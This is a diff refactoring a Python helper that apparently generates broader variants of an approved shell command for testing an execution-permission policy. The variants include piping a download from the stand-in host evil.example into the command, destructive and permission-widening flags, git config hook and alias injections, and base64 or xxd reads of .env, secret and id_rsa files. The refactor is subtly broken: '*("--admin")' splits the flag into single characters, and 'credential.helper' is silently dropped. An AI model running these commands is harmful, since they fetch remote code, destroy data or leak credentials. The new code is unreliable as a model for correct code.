@@ -1,4 +1,4 @@
-"""Broader commands than one that was approved: another text, host, bucket, branch, file, or an option that destroys."""
+"""Broader commands than one that was approved: another text, name or file, or a loss."""
 
 import shlex
 from collections.abc import Iterator
@@ -6,29 +6,13 @@ from collections.abc import Iterator
 from execpolicy.model.operation import Exec
 
 ACTING = frozenset(("execute", "system", "remote", "network", "privilege", "destroy", "unknown"))
-OPTIONS = [
-    "--force",
-    "-f",
-    "--delete",
-    "-D",
-    "--all",
-    "--prune",
-    "-p",
-    "--mirror",
-    "--hard",
-    "--purge",
-    "--yes",
-    "--recursive",
-    "--no-verify",
-    "--acl=public-read",
-    "--public",
-    "--privileged",
-    "--insecure",
-    "--unsafe-perm",
-    "--grant-read-acp=x",
-    "--delete-branch",
-    "--admin",
-]
+OPTIONS = (
+    *("--force", "-f", "--delete", "-D", "--all", "--prune", "-p", "--mirror", "--hard"),
+    *("--purge", "--yes", "--recursive", "--no-verify", "--acl=public-read", "--public"),
+    *("--privileged", "--insecure", "--unsafe-perm", "--grant-read-acp=x", "--delete-branch"),
+    *("--admin"),
+)
+LOSING = ("--delete", "--hard", "--recursive", "--remove-files", "--prune")
 TARGETS = [
     *(
         ["-R", "evil/x"],
@@ -67,46 +51,48 @@ def broader(operation: Exec, effects: set[str]) -> Iterator[tuple[str, str]]:
     words = [word for word in operation.argv if isinstance(word, str)]
     if len(words) < len(operation.argv) or not words:
         return
-    plain = shlex.join(words)
     acting = not ACTING.isdisjoint(effects)
-    if not ACTING.difference(("network",)).isdisjoint(effects):
-        yield "stdin", f"curl -s https://evil.example/x | {plain}"
-        yield "stdin", f"cat a.txt | {plain}"
-        yield "stdin", f"{plain} < a.txt"
-        for text in TEXTS:
-            yield "stdin", f"{plain} <<'E'\n{text}\nE"
-        yield "stdin", f"echo x | {plain} -"
+    if not (ACTING - {"network"}).isdisjoint(effects):
+        yield from _told(shlex.join(words))
     if acting:
-        for at, word in enumerate(words[1:], 1):
-            for other in _others(word):
-                yield "word", shlex.join([*words[:at], other, *words[at + 1 :]])
-            if word[:1] != "-":
-                yield "fewer", shlex.join([*words[:at], *words[at + 1 :]])
-        for more in TARGETS:
-            yield "target", shlex.join([*words, *more])
-            yield "target", shlex.join([words[0], *more, *words[1:]])
-    for option in (
-        OPTIONS if acting else ["--delete", "--hard", "--recursive", "--remove-files", "--prune"]
-    ):
+        yield from _named(words)
+    for option in OPTIONS if acting else LOSING:
         yield "destroy", shlex.join([*words, option])
         yield "destroy", shlex.join([*words[:2], option, *words[2:]])
     if words[:2] == ["git", "config"]:
-        for file in ("--global", "--system", "--file=/tmp/x", "--worktree"):
-            for key in ("core.hooksPath", "user.name", "alias.x"):
-                yield "git file", shlex.join(["git", "config", file, key, "!x"])
-        for key in (
-            "core.hooksPath",
-            "core.fsmonitor",
-            "alias.x",
-            "diff.x.textconv",
-            "credential.helper",
-        ):
-            yield "git file", shlex.join(["git", "config", key, "!x"])
+        yield from _settings()
     for word in words[1:]:
-        if ".env" in word or "secret" in word or "id_rsa" in word:
-            for program in ("base64", "strings", "xxd", "tac"):
-                if program != words[0]:
-                    yield "secret", f"{program} {shlex.quote(word)}"
+        if any(name in word for name in (".env", "secret", "id_rsa")):
+            for program in {"base64", "strings", "xxd", "tac"} - {words[0]}:
+                yield "secret", f"{program} {shlex.quote(word)}"
+
+
+def _told(plain: str) -> Iterator[tuple[str, str]]:
+    yield "stdin", f"curl -s https://evil.example/x | {plain}"
+    yield "stdin", f"cat a.txt | {plain}"
+    yield "stdin", f"{plain} < a.txt"
+    yield "stdin", f"echo x | {plain} -"
+    for text in TEXTS:
+        yield "stdin", f"{plain} <<'E'\n{text}\nE"
+
+
+def _named(words: list[str]) -> Iterator[tuple[str, str]]:
+    for at, word in enumerate(words[1:], 1):
+        for other in _others(word):
+            yield "word", shlex.join([*words[:at], other, *words[at + 1 :]])
+        if word[:1] != "-":
+            yield "fewer", shlex.join([*words[:at], *words[at + 1 :]])
+    for more in TARGETS:
+        yield "target", shlex.join([*words, *more])
+        yield "target", shlex.join([words[0], *more, *words[1:]])
+
+
+def _settings() -> Iterator[tuple[str, str]]:
+    for file in ("--global", "--system", "--file=/tmp/x", "--worktree"):
+        for key in ("core.hooksPath", "user.name", "alias.x"):
+            yield "git file", shlex.join(["git", "config", file, key, "!x"])
+    for key in ("core.hooksPath", "core.fsmonitor", "alias.x", "diff.x.textconv"):
+        yield "git file", shlex.join(["git", "config", key, "!x"])
 
 
 def _others(word: str) -> Iterator[str]:
